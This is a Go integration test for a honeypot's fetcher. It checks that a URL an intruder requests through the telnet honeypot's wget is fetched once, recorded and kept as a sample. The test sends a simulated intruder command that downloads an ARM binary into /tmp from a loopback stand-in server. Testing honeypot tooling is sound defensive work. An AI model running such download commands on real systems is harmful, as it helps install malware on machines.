package main

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/samplestore"
	"github.com/honeyscope/honeyscope/internal/store"
	"github.com/honeyscope/honeyscope/internal/store/duckstore"
)

// TestServeFetcher: with the fetcher on (loopback allowed), a URL an
// intruder asks the telnet honeypot's wget for is fetched from the loopback
// server once, recorded with its answer, and its content kept as a sample.
func TestServeFetcher(t *testing.T) {
	binary(t)
	elf := testELF(7)
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Server", "loader")
		w.Write(elf)
	}))
	defer srv.Close()
	dir := t.TempDir()
	db := filepath.Join(dir, "f.duckdb")
	cfg := filepath.Join(dir, "f.yaml")
	os.WriteFile(cfg, []byte("fetcher:\n  enabled: true\n  allow: [127.0.0.0/8]\n  backoff: 100ms\n"), 0o600)
	port, api := freePort(t), freePort(t)
	cmd := startHoneypotServe(t, db, port, "--config", cfg, "--listen", fmt.Sprintf("127.0.0.1:%d", api))

	url := srv.URL + "/bins/x.arm7"
	for range 2 {
		tc := dialTelnet(t, port)
		tc.load(t, testELF(1))
		tc.send(t, "cd /tmp; wget "+url+" -O x; exit")
		tc.c.SetReadDeadline(time.Now().Add(10 * time.Second))
		io.Copy(io.Discard, tc.c)
		tc.c.Close()
	}
	metrics := fmt.Sprintf("http://127.0.0.1:%d/metrics", api)
	deadline := time.Now().Add(60 * time.Second)
	for {
		_, body := httpGet(t, metrics)
		if strings.Contains(string(body), `honeyscope_fetcher_fetches_total{outcome="ok"} 1`) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no fetch recorded:\n%s", body)
		}
		time.Sleep(100 * time.Millisecond)
	}
	cmd.Process.Signal(syscall.SIGTERM)
	cmd.Wait()
	if n := hits.Load(); n != 1 {
		t.Errorf("the URL was fetched %d times", n)
	}
	st, err := duckstore.Open(context.Background(), db, duckstore.Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	fs, err := st.Fetches(context.Background(), store.FetchQuery{URL: url})
	if err != nil || len(fs) != 1 {
		t.Fatalf("fetches %v %v", fs, err)
	}
	sum := sha256.Sum256(elf)
	sha := hex.EncodeToString(sum[:])
	f := fs[0]
	if f.SHA256 != sha || f.Status != 200 || f.Size != int64(len(elf)) || !strings.Contains(f.Headers, "Server: loader") ||
		f.Server != srv.Listener.Addr().String() || f.SessionID == "" || f.Sensor != "hp" {
		t.Errorf("fetch %+v", f)
	}
	samples, err := st.Samples(context.Background(), store.SampleQuery{SHA256: sha})
	if err != nil || len(samples) != 1 {
		t.Fatalf("samples %v %v", samples, err)
	}
	ss, err := samplestore.Open(filepath.Join(dir, "samples"), samplestore.Options{})
	if err != nil || !ss.Has(sha) {
		t.Errorf("the content is not in the sample store (%v)", err)
	}
}
